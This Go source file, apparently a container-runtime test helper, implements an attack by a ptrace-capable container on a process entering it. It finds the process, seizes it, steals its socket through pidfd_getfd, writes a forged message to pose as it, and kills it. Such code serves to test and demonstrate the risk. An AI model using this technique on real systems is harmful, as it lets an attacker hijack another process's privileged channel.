package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// intrude is what a container with SYS_PTRACE can do to a process on its way in: it takes the socket that it has, says by
// it that it is that process, and ends it.
func intrude(args []string) error {
	runtime.LockOSThread() // a tracer is a thread
	if err := waitForFile([]string{args[0], "1h"}); err != nil {
		return err
	}
	for {
		found, err := filepath.Glob("/proc/[0-9]*/comm")
		if err != nil {
			return err
		}
		for _, file := range found {
			name, err := os.ReadFile(file)
			if err != nil || string(name) != "enter\n" {
				continue
			}
			pid, err := strconv.Atoi(filepath.Base(filepath.Dir(file)))
			if err == nil && impersonate(pid) == nil {
				fmt.Println("said that it is", pid)
				for {
					time.Sleep(time.Hour)
				}
			}
		}
	}
}

func impersonate(pid int) error {
	if err := unix.PtraceSeize(pid); err != nil {
		return err
	}
	if err := unix.PtraceInterrupt(pid); err != nil {
		return err
	}
	var status unix.WaitStatus
	if _, err := unix.Wait4(pid, &status, unix.WALL, nil); err != nil {
		return err
	}
	process, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return err
	}
	defer unix.Close(process)
	socket, err := unix.PidfdGetfd(process, 3, 0)
	if err != nil {
		return fmt.Errorf("its program is executed: %w", unix.PtraceDetach(pid))
	}
	text := binary.NativeEndian.AppendUint32(nil, 'B')
	text = append(text, bytes.Repeat([]byte{0}, 8)...)
	for range 3 {
		if _, err := unix.Write(socket, text); err != nil {
			return err
		}
	}
	return unix.Kill(pid, unix.SIGKILL)
}
